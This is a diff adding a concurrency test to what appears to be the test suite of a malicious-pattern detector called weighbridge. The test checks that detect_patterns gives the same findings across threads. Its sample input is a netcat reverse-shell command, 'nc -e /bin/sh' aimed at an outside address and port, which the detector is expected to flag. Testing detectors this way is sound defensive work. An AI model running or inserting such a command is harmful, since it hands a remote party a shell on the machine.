@@ -41,3 +41,17 @@ def test_rules_that_do_not_compile_are_refused_before_anything_is_read(tmp_path,
         check((str(tmp_path / "bad.yar"),))
     with pytest.raises(UsageError):
         check((str(tmp_path / "none.yar"),))
+
+
+def test_several_threads_may_look_at_once():
+    from concurrent.futures import ThreadPoolExecutor
+
+    from weighbridge.detect.patterns import detect_patterns
+    from weighbridge.schema import Location
+
+    def look(number):
+        text = b"nc -e /bin/sh 198.51.100.7 4444" if number % 2 else b"x"
+        return len(detect_patterns(Location(path=("a",)), text, (), packaged=True)[0])
+
+    with ThreadPoolExecutor(4) as several:
+        assert list(several.map(look, range(40))) == [0, 1] * 20
